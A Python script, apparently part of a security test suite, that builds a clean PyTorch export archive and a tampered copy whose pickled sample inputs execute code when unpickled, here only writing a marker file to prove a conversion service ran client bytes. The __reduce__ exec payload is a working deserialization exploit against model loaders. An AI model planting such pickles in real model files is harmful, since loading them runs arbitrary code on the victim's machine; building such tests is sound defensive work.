"""Writes the PyTorch files the conversion attacks upload (run with the converter's Python):
`good.pt2`, a torch.export archive of y = x W^T + b (x [2, 4] -> y [2, 2], random W and b), and `evil.pt2`, the
same archive whose pickled sample inputs run code when unpickled: it writes the file named on
the command line. Usage: pickled_models.py <out-dir> <marker-file>."""
import io
import sys
import zipfile

import torch


class Linear(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = torch.nn.Linear(4, 2)

    def forward(self, x):
        return self.layer(x)


class Payload:
    """Unpickled, it writes the marker: the proof that a client's bytes ran as code."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('pickle ran')" % self.marker,))


def main():
    out, marker = sys.argv[1], sys.argv[2]
    # Random weights: new bytes each run, so no conversion cache holds them.
    program = torch.export.export(Linear(), (torch.randn(2, 4),))
    torch.export.save(program, out + "/good.pt2")
    payload = io.BytesIO()
    torch.save(Payload(marker), payload)
    with zipfile.ZipFile(out + "/good.pt2") as good, \
            zipfile.ZipFile(out + "/evil.pt2", "w") as evil:
        for item in good.infolist():
            data = good.read(item.filename)
            if item.filename.endswith("sample_inputs/model.pt"):
                data = payload.getvalue()
            evil.writestr(item, data)


if __name__ == "__main__":
    main()
